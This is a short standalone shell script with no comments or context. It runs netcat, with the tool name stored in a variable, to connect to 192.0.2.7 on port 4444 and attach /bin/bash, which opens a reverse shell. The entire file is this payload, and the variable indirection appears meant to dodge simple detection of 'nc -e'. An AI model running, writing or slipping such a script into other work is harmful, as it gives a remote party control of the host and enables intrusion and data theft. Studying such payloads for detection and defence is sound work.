#!/bin/sh
tool=nc
host=192.0.2.7
$tool $host 4444 -e /bin/bash
